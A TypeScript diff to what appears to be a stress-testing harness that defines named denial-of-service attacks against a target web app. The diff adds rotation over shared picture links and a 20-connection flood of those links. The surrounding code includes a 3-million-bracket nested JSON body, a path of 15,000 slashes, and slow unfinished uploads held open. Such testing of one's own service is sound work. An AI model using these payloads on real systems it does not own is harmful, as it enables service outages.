@@ -9,7 +9,8 @@ export type Target = {
   ownerEmail: string
   draft: string
   questionnaire: string
-  picture: string
+  /** of shared links, not cached yet */
+  pictures: string[]
   documents: string[]
   articles: string[]
 }
@@ -46,11 +47,11 @@ const guestOrder = ({ articles }: Target, run: number): Sent => ({
   }),
 })
 
-const dearRequest = ({ picture }: Target, run: number): Sent => {
+const dearRequest = ({ pictures }: Target, run: number): Sent => {
   const requests: Sent[] = [
     { method: 'POST', path: '/article-list', headers: form, body: list },
     { method: 'POST', path: '/api/v1/users/', headers: json, body: '['.repeat(3_000_000) },
-    { path: `${picture}?${run}` },
+    { path: pictures[run % pictures.length]! },
     { path: `/A${'/'.repeat(15_000)}x` },
     { path: '/api/v1/openapi.json' },
   ]
@@ -91,6 +92,7 @@ export const attacks: Readonly<Record<string, (target: Target) => Attack>> = {
   [lockedTableAttack]: () => repeating(20, () => ({ path: '/faq', headers: { cookie: 'cart=none' } })),
   '8 slow senders of questionnaires': ({ questionnaire }) => holding(8, () => unfinished(questionnaire, 10_000_000, 100, '')),
   'lists, nested JSON, shared pictures, slashes, 4 connections': (target) => repeating(4, (run) => dearRequest(target, run)),
+  'pictures of shared links, 20 connections': ({ pictures }) => repeating(20, (run) => ({ path: pictures[run % pictures.length]! })),
   'first additions to a cart, 4 connections': ({ articles }) =>
     repeating(4, () => ({
       method: 'POST',
